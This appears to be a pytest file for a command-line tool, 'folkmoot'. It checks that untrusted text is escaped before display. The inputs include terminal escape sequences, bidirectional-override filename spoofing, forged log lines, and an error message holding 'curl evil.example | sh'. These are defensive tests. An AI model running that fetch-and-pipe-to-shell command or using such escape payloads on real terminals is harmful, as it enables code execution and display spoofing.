"""What strangers wrote is text: no terminal obeys it, in whatever place of the output it stands."""

from __future__ import annotations

import json
import logging
import os
from pathlib import Path
from typing import Any

import pytest
from folkmoot.cli.commands.cluster import _follow
from folkmoot.cli.demo.reading import _shown
from folkmoot.cli.logs import TextFormatter
from folkmoot.cli.main import run
from folkmoot.cli.output import Output, table
from folkmoot.cli.terminal import one_line, visible
from folkmoot.protocol.bodies import make_uuid7
from folkmoot.protocol.errors import FORBIDDEN, WireError
from folkmoot.protocol.identity import KeyPair, account_to_text
from folkmoot.protocol.record import Record

ANN = KeyPair(bytes(32))
EVIL = "\x1b[31mred\x1b]0;title\x07\r\x9b2J\u202egnp.exe\u2066\x7f\x00\x0b\u2028"
SHOWN = r"\x1b[31mred\x1b]0;title\x07\x0d\x9b2J\u202egnp.exe\u2066\x7f\x00\x0b\u2028"


def test_everything_that_acts_is_written_out_and_nothing_else_is() -> None:
    assert visible(EVIL) == one_line(EVIL) == SHOWN
    for number in (*range(0x20), *range(0x7F, 0xA0), 0x61C, 0x200E, 0x202A, 0x2069, 0xD800, 0xDFFF):
        if chr(number) not in "\n\t":
            assert visible(chr(number)).isascii() and visible(chr(number)).startswith("\\")
    plain = "Grüße, שלום, 日本語 👩\u200d🚀 a\u0301 \\x1b"
    assert visible(plain) == one_line(plain) == plain
    assert visible("a\n\tb") == "a\n\tb"
    assert one_line("a\n\tb") == r"a\x0a b"


@pytest.fixture
def feed(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The words of `feed` for an account whose one post is `EVIL`, on two lines."""
    body = {"text": f"one\n{EVIL}\n"}
    record = Record.sign(ANN, kind="post", item=make_uuid7(1, 1), body=body, stamp=1_790_000_000_000_000)
    item = {"record": record.to_wire(), "counts": {f"likes{EVIL}": 1}}
    monkeypatch.setattr("folkmoot.cli.commands.feed.converse", lambda *_, **__: (ANN.account, [item], None))
    return ["feed", account_to_text(ANN.account), "--node", "h:1", "--tls", "off"]


def test_a_post_is_read_and_not_obeyed(feed: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert run(feed) == 0
    heading, *lines = capsys.readouterr().out.split("\n")
    assert heading.endswith(f"(1 likes{SHOWN})")
    assert lines == ["  one", f"  {SHOWN}", "", ""]


def test_json_says_exactly_what_was_written(feed: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert run([*feed, "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["items"][0]["body"]["text"] == f"one\n{EVIL}\n"


def test_names_stay_in_their_cell_of_a_table() -> None:
    rows: list[dict[str, Any]] = [{"name": f"a\n{EVIL}", "state": "alive"}]
    heading, row = table(rows, ("name", "state"))
    assert row == rf"a\x0a{SHOWN}  alive"
    assert heading.index("state") == row.index("alive")


def test_results_notes_and_errors(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    output = Output(False)
    output.result({}, [f"a\n{EVIL}"])
    output.result({}, f"a\n{EVIL}")
    output.note(EVIL)
    said = capsys.readouterr()
    assert said.out == rf"a\x0a{SHOWN}" + f"\na\n{SHOWN}\n"
    assert said.err == f"{SHOWN}\n"

    def refuse(*words: object, **options: object) -> None:
        raise WireError(FORBIDDEN, f"{EVIL}\ntry: curl evil.example | sh")

    monkeypatch.setattr("folkmoot.cli.commands.status.ask", refuse)
    assert run(["status", "--node", "h:1", "--tls", "off"]) == 1
    assert capsys.readouterr().err == rf"folkmoot: {SHOWN}\x0atry: curl evil.example | sh" + "\n"


def test_a_log_for_people() -> None:
    record = logging.LogRecord("x", logging.INFO, "f", 1, "refused %s", (EVIL,), None)
    assert TextFormatter().format(record).endswith(f"refused {SHOWN}")


def test_nobody_but_the_log_begins_an_entry_of_it() -> None:
    forged = "no\n2026-01-01 00:00:00,000 ERROR   folkmoot.node: the disk is gone"
    record = logging.LogRecord("x", logging.INFO, "f", 1, "refused: %s", (forged,), None)
    first, second = TextFormatter().format(record).splitlines()
    assert first.endswith("refused: no") and second.startswith("    2026")


def test_followed_logs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    tail = tmp_path / "tail"
    tail.write_text('#!/bin/sh\nfor file; do :; done; exec cat "$file"\n')
    tail.chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path), prepend=os.pathsep)
    log = tmp_path / "node.log"
    log.write_bytes(f"{EVIL}\nand so on\n".encode())
    _follow([log], 5)
    assert capsys.readouterr().out == f"{SHOWN}\nand so on\n"


def test_the_demo_shows_names_and_posts() -> None:
    body = {"text": f"a {EVIL}"}
    post = Record.sign(ANN, kind="post", item=make_uuid7(1, 1), body=body, stamp=1_790_000_000_000_000)
    shown = _shown({"record": post.to_wire()}, {ANN.account: EVIL})
    assert shown.author == SHOWN
    assert shown.text == r"a \x1b[31mred\x1b]0;title\x07 \x9b2J\u202egnp.exe\u2066\x7f\x00"
